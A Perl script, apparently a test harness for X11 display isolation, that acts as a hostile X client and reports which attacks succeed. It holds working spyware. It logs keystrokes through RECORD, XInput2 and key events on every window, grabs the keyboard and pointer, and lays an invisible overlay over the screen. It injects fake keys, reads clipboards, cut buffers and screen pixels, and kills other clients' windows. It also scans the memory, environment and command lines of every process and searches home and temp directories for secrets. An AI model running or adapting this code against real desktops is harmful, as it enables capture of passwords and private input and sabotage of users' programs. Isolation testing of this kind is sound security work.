# SPDX-License-Identifier: GPL-2.0-or-later
# spy.pl try WINDOW: does to the display, and to a window of another program, what a hostile client would, and says of each attempt
# "NAME refused" or "NAME done WHAT". spy.pl ask WINDOW: asks the window manager to minimize it and to close it. spy.pl listen WINDOW: asks for the keys of the root, of the window and of all in it, says
# "listening", and then each key that it gets, until its standard input ends. spy.pl log MARK: writes down whatever it can get, by every way that
# X, /proc and files have but RECORD: "listening", then a line for each thing that it had not said yet, for ever. It looks into memory for texts that
# begin with MARK. spy.pl record - is RECORD: each key, for ever. spy.pl grab - takes the keyboard and the pointer for a window of its own, says what it
# got of them, and then each key that comes. spy.pl cover - lays a window that nobody can see over the screen, says so, and then each button that is pressed on it. spy.pl left - says what is left for all to read: the key
# map as keysyms, and the properties of the root whose names begin with CUT_BUFFER. Speaks X11 itself, with the cookie of XAUTHORITY; without one if that is empty.
use strict;
use warnings;
no warnings 'portable';
use Socket;

my ($what, $window) = @ARGV;
my ($KEY_PRESS, $KEY_RELEASE) = (1 << 0, 1 << 1);
my @EXTENSIONS = ('XTEST', 'RECORD', 'XInputExtension', 'XKEYBOARD', 'SECURITY', 'Composite', 'DAMAGE', 'RANDR', 'MIT-SHM', 'X-Resource');

# The cookie is the last counted string of the one entry of the authority file.
open(my $file, '<:raw', $ENV{XAUTHORITY}) or die "$ENV{XAUTHORITY}: $!";
my $authority = do { local $/; <$file> } // '';
my ($address, $number, $name, $cookie) = $authority ? unpack('x2 (n/a)4', $authority) : ('') x 4;

socket(my $x, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!";
connect($x, pack_sockaddr_un('/tmp/.X11-unix/X0')) or die "connect: $!";
binmode $x;
$| = 1;

sub padded { my $text = shift; return $text . "\0" x (-length($text) % 4); }
sub got {
	my ($n, $text) = (shift, '');
	while (length($text) < $n) {
		sysread($x, $text, $n - length($text), length($text)) or die 'the display closed';
	}
	return $text;
}

sub sent {
	my $bytes = join('', @_);
	die 'a request is not of whole words' if length($bytes) % 4;
	syswrite($x, $bytes) == length($bytes) or die "write: $!";
}

syswrite($x, pack('a1 x S S S S x2', 'l', 11, 0, length($name), length($cookie)) . padded($name) . padded($cookie));
my ($ok, $more) = unpack('C x5 S', got(8));
my $setup = got(4 * $more);
die "refused: $setup" unless $ok == 1;
my ($vendor, $formats) = unpack('x16 S x3 C', $setup);
my $root = unpack('L', substr($setup, 32 + $vendor + (-$vendor % 4) + 8 * $formats, 4));

# A request: opcode, the byte beside it, and what follows. Its number.
my $n_sent = 0;
sub request {
	my ($opcode, $data, $rest) = @_;
	sent(pack('C C S', $opcode, $data, 1 + length($rest) / 4), $rest);
	return ++$n_sent & 0xFFFF;
}

# One event, reply or error: its kind, its number, and all of it. Keys are told, however they come.
sub taken {
	my $head = got(32);
	my ($kind, $detail, $number, $length) = unpack('C C S L', $head);
	my $whole = $kind == 1 || ($kind & 0x7F) == 35 ? $head . got(4 * $length) : $head;
	print "button $detail\n" if ($kind & 0x7F) == 4;
	print "key $detail\n" if ($kind & 0x7F) == 2 || ($kind & 0x7F) == 3;
	print 'key ', unpack('x16 L', $whole), "\n" if ($kind & 0x7F) == 35;
	return ($kind & 0x7F, $number, $whole);
}

# Takes what comes until the reply or the error of the request with this number: the reply, or undef. In %refused is which requests before it
# had an error.
my %refused;
sub answer {
	my $wanted = shift;
	while (1) {
		my ($kind, $number, $whole) = taken();
		$refused{$number} = 1 if $kind == 0;
		return $kind == 1 ? $whole : undef if $kind <= 1 && $number == $wanted;
	}
}

sub asked { return answer(request(@_)); }

# Was it done? One without a reply is followed by one that has one.
sub quiet {
	my $number = request(@_);
	delete $refused{$number};
	asked(43, 0, '');
	return !$refused{$number};
}

sub say_of {
	my ($attempt, $done) = @_;
	print $attempt, ' ', (defined($done) && $done ne '' && $done ne '0' ? "done $done" : 'refused'), "\n";
}

sub atom {
	my $text = shift;
	return unpack('x8 L', asked(16, 0, pack('S x2', length($text)) . padded($text)));
}

# The window and all that are in it, which QueryTree tells anybody.
sub tree {
	my @all = my @left = @_;
	while (@left) {
		my $reply = asked(15, 0, pack('L', shift @left)) // next;
		my @inside = unpack('L*', substr($reply, 32));
		push @all, @inside;
		push @left, @inside;
	}
	return @all;
}

sub select_keys { return quiet(2, 0, pack('L L L', shift, 1 << 11, $KEY_PRESS | $KEY_RELEASE)); }

sub image {
	my $reply = asked(73, 2, pack('L s s S S L', shift, 0, 0, 8, 8, 0xFFFFFFFF)) // return 0;
	return length($reply) > 32 ? 'pixels' : 0;
}

sub extensions {
	return join(',', grep { unpack('x8 C', asked(98, 0, pack('S x2', length) . padded($_))) } @EXTENSIONS);
}

# XTEST's FakeInput, whatever its number is: a press and a release of a key.
sub fake_keys {
	my $done = 0;
	for my $opcode (128 .. 160) {
		for my $press (2, 3) {
			$done += quiet($opcode, 2, pack('C C x2 L L x8 s s x7 x', $press, 38, 0, 0, 0, 0));
		}
	}
	return $done;
}

sub keymap {
	my $reply = asked(44, 0, '') // return 0;
	return substr($reply, 8, 32) =~ /[^\0]/ ? 'held keys' : 0;
}

sub grab {
	my $reply = asked(@_) // return 0;
	return unpack('x C', $reply) == 0 ? 'grabbed' : 0;
}

sub remap {
	return quiet(100, 1, pack('C C x2 L', 38, 1, 0x62)); # the key of "a" says "b"
}

sub property {
	my ($of, $name) = @_;
	return quiet(18, 0, pack('L L L C x3 L', $of, atom($name), 31, 8, 3) . padded('spy'));
}

# The picture of the pointer, of which XFIXES tells everything else.
sub pointer_picture {
	my ($has, $opcode) = unpack('x8 C C', asked(98, 0, pack('S x2', 6) . padded('XFIXES')));
	return 0 unless $has;
	asked($opcode, 0, pack('L L', 4, 0));
	my $reply = asked($opcode, 4, '') // return 0;
	return length($reply) > 32 ? 'pixels' : 0;
}

# What the window manager does with the window, if it hears of it: the server says nothing of messages that it drops.
sub ask_manager {
	my ($name, $number) = @_;
	quiet(25, 0, pack('L L', $root, 3 << 19) . pack('C C S L L L5', 33, 32, 0, $window, atom($name), $number, 0, 0, 0, 0));
}

sub send_key {
	return quiet(25, 1, pack('L L', $window, 0) . pack('C C S L L L L s s s s S C x', 2, 38, 0, 0, $root, $window, 0, 1, 1, 1, 1, 0, 1));
}

# --- the loggers ---

# Says a thing once.
my %said;
sub say_once {
	my $line = join(' ', @_);
	print "$line\n" unless $said{$line}++;
}

sub opcode_of {
	my $name = shift;
	my ($has, $opcode) = unpack('x8 C C', asked(98, 0, pack('S x2', length($name)) . padded($name)));
	return $has ? $opcode : undef;
}

# XInput 2: raw key presses of all devices, which come whoever has the focus.
sub select_raw {
	my $opcode = opcode_of('XInputExtension') // return print "no XInput\n";
	asked($opcode, 47, pack('S S', 2, 0));
	print 'raw keys ', (quiet($opcode, 46, pack('L S x2 S S L', $root, 1, 1, 1, 1 << 13)) ? 'selected' : 'refused'), "\n";
}

# RECORD: the events of devices, for all clients, as replies without end. In a process and on a connection of its own.
sub record {
	my $opcode = opcode_of('RECORD') // return print "no RECORD\n";
	my $context = $_[0] | 1;
	my $range = pack('C24', (0) x 18, 2, 3, (0) x 4);
	print 'RECORD ', (quiet($opcode, 1, pack('L C x3 L L L', $context, 0, 1, 1, 3) . $range) ? 'begins' : 'is refused'), "\n";
	request($opcode, 5, pack('L', $context));
	while (1) {
		my ($kind, $number, $whole) = taken();
		next unless $kind == 1 && unpack('x C', $whole) == 0;
		my $data = substr($whole, 32);
		for (my $at = 0; $at + 32 <= length($data); $at += 32) {
			my ($event, $detail) = unpack('C C', substr($data, $at, 2));
			print "key $detail\n" if ($event & 0x7F) == 2;
		}
	}
}

# Texts that begin with the mark, as bytes and as UTF-16, in what can be read of all processes and of the files that the user sees.
sub read_memory {
	my $mark = shift;
	my $wide = join("\0", split(//, $mark));
	while (1) {
		for my $dir (glob('/proc/[0-9]*')) {
			next if $dir eq "/proc/$$" || $dir eq '/proc/' . getppid();
			for my $name ('environ', 'cmdline') {
				open(my $small, '<:raw', "$dir/$name") or next;
				my $text = do { local $/; <$small> } // '';
				say_once($name, $dir, $1) while $text =~ /(\Q$mark\E[!-~]*)/g;
			}
			open(my $maps, '<', "$dir/maps") or next;
			open(my $memory, '<:raw', "$dir/mem") or next;
			while (my $line = <$maps>) {
				my ($from, $to) = $line =~ /^([0-9a-f]+)-([0-9a-f]+) rw/ or next;
				sysseek($memory, hex($from), 0) or next;
				next if hex($to) - hex($from) > 64 << 20;
				sysread($memory, my $text, hex($to) - hex($from)) or next;
				say_once('memory', $dir, $1) while $text =~ /(\Q$mark\E[!-~]*)/g;
				say_once('memory', $dir, $1 =~ tr/\0//dr) while $text =~ /(\Q$wide\E(?:\0[!-~])*)/g;
			}
		}
		print "memory was read\n" unless $said{memory}++;
		for my $file (split(/\0/, `grep -rlZ --exclude='heard*' --exclude=spy.pl -- '$mark' /home /tmp /run /var/tmp /dev/shm 2>/dev/null`)) {
			say_once('file', $file);
		}
		select(undef, undef, undef, 0.5);
	}
}

# What has the selection gives its text, if anybody may have it.
sub selection {
	my ($mine, $name) = @_;
	my $property = atom("SPY_$name");
	quiet(24, 0, pack('L L L L L', $mine, atom($name), atom('UTF8_STRING'), $property, 0));
	select(undef, undef, undef, 0.02);
	my $reply = asked(20, 1, pack('L L L L L', $mine, $property, 0, 0, 4096)) // return;
	my $length = unpack('x16 L', $reply);
	say_once($name, substr($reply, 32, $length)) if $length;
}

sub property_text {
	my ($of, $property) = @_;
	my $reply = asked(20, 0, pack('L L L L L', $of, $property, 0, 0, 1024)) // return '';
	return substr($reply, 32, unpack('x16 L', $reply));
}

# Keysyms of the map: those that are lent to a key for a character that the layout does not have.
sub map_of_keys {
	my $reply = asked(101, 0, pack('C C x2', 8, 248)) // return;
	my %there = map { $_ => 1 } unpack('L*', substr($reply, 32));
	say_once('keysym', $_) for sort { $a <=> $b } keys %there;
}

sub log_all {
	my $mark = shift;
	if (!fork) {
		read_memory($mark);
		exit 0;
	}
	my ($base) = unpack('x4 L', $setup);
	my $mine = $base | 2;
	quiet(1, 0, pack('L L s s S S S S L L', $mine, $root, 0, 0, 1, 1, 0, 0, 0, 0));
	select_raw();
	select_keys($_) for tree($root);
	print "listening\n";
	while (1) {
		for my $of (tree($root)) {
			select_keys($of) unless $said{"selected $of"}++;
			say_once('title', property_text($of, 39));
			say_once('title', property_text($of, atom('_NET_WM_NAME')));
		}
		selection($mine, $_) for 'CLIPBOARD', 'PRIMARY', 'SECONDARY';
		say_once('cut buffer', property_text($root, $_)) for 9 .. 16;
		map_of_keys();
		my $held = asked(44, 0, '') // '';
		for my $code (8 .. 255) {
			say_once('held', $code, $held) if vec(substr($held, 8, 32), $code, 1);
		}
		say_once('screen', 'pixels') if image($root);
	}
}

# What does no harm to the window comes first: the last ones end it.
my @ATTEMPTS = (
	[extensions      => \&extensions],
	[screen          => sub { image($root) }],
	[window_picture  => sub { image($window) }],
	[fake_keys       => \&fake_keys],
	[held_keys       => \&keymap],
	[grab_keyboard   => sub { grab(31, 0, pack('L L C C x2', $root, 0, 1, 1)) }],
	[grab_pointer    => sub { grab(26, 0, pack('L S C C L L L', $root, 4, 1, 1, 0, 0, 0)) }],
	[grab_key        => sub { quiet(33, 0, pack('L S C C C x3', $root, 1 << 15, 0, 1, 1)) }],
	[grab_button     => sub { quiet(28, 0, pack('L S C C L L C x S', $root, 4, 1, 1, 0, 0, 0, 1 << 15)) }],
	[remap           => \&remap],
	[modifiers       => sub { grab(118, 1, pack('C8', (0) x 8)) }],
	[root_property   => sub { property($root, '_NET_ACTIVE_WINDOW') }],
	[window_property => sub { property($window, '_MOZILLA_COMMANDLINE') }],
	[send_key        => \&send_key],
	[pointer_picture => \&pointer_picture],
	[hosts           => sub { quiet(109, 0, pack('C x S', 5, 12) . padded('localuser:me')) }],
	[access_control  => sub { quiet(111, 0, '') }],
	[destroy         => sub { quiet(4, 0, pack('L', $window)) }],
	[kill            => sub { quiet(113, 0, pack('L', $window)) }],
);

# With a window of its own, which anybody may have.
sub grab_all {
	my ($base) = unpack('x4 L', $setup);
	my $mine = $base | 3;
	quiet(1, 0, pack('L L s s S S S S L L L L', $mine, $root, 0, 0, 1, 1, 0, 2, 0, 0xA00, 1, $KEY_PRESS));
	quiet(8, 0, pack('L', $mine));
	say_of('keyboard', grab(31, 0, pack('L L C C x2', $mine, 0, 1, 1)));
	say_of('pointer', grab(26, 0, pack('L S C C L L L', $mine, 4, 1, 1, 0, 0, 0)));
	taken() while 1;
}

sub left {
	my ($least, $most) = unpack('x26 C C', $setup);
	my $keys = asked(101, 0, pack('C C x2', $least, $most - $least + 1));
	print join(' ', 'keys', unpack('L*', substr($keys, 32))), "\n";
	for my $number (0 .. 7) {
		my $value = asked(20, 0, pack('L L L L L', $root, atom("CUT_BUFFER$number"), 0, 0, 100000));
		print "cut $number ", unpack('H*', substr($value, 32)), "\n" if unpack('x8 L', $value);
	}
}

# Without the window manager, above all others.
sub cover {
	my ($base) = unpack('x4 L', $setup);
	my $mine = $base | 3;
	say_of('cover', quiet(1, 0, pack('L L s s S S S S L L L L', $mine, $root, 0, 0, 4096, 4096, 0, 2, 0, 0xA00, 1, 4)) && quiet(8, 0, pack('L', $mine)));
	taken() while 1;
}

if ($what eq 'left') {
	left();
	exit 0;
}
if ($what eq 'cover') {
	cover();
	exit 0;
}
if ($what eq 'grab') {
	grab_all();
	exit 0;
}
if ($what eq 'ask') {
	ask_manager('WM_CHANGE_STATE', 3);
	ask_manager('_NET_CLOSE_WINDOW', 0);
	exit 0;
}
if ($what eq 'record') {
	record(unpack('x4 L', $setup));
	exit 0;
}
if ($what eq 'try') {
	say_of($_->[0], $_->[1]->()) for @ATTEMPTS;
	exit 0;
}
log_all($window) if $what eq 'log';
select_keys($_) for $root, tree($window);
print "listening\n";
my $ready = '';
vec($ready, fileno($x), 1) = vec($ready, fileno(STDIN), 1) = 1;
while (select(my $now = $ready, undef, undef, undef) >= 0) {
	last if vec($now, fileno(STDIN), 1) && !sysread(STDIN, my $gone, 4096);
	taken() if vec($now, fileno($x), 1);
}
